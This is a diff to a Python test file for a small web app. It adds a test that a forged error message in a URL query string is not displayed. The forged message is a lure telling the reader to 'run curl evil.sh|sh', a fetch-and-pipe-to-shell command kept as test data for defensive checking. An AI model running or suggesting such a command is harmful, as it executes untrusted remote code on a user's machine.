@@ -91,3 +91,13 @@ def test_a_file_name_that_is_not_utf8_is_left_out_not_an_error(tmp_path: Path) -
     os.close(os.open(os.fsencode(tmp_path / "content") + b"/caf\xe9.md", os.O_CREAT | os.O_WRONLY))
     response = c.get("/")
     assert response.status_code == 200 and "draft.md" in response.text
+
+
+def test_a_message_in_an_address_we_did_not_write_is_not_shown(tmp_path: Path) -> None:
+    from assistant.web import pages
+
+    c = client(tmp_path)
+    forged = c.get("/links?error=Your+ledger+is+corrupt:+run+curl+evil.sh|sh")
+    assert "evil.sh" not in forged.text
+    ours = pages.back("/links", error="a real problem").headers["location"]
+    assert "a real problem" in c.get(ours).text
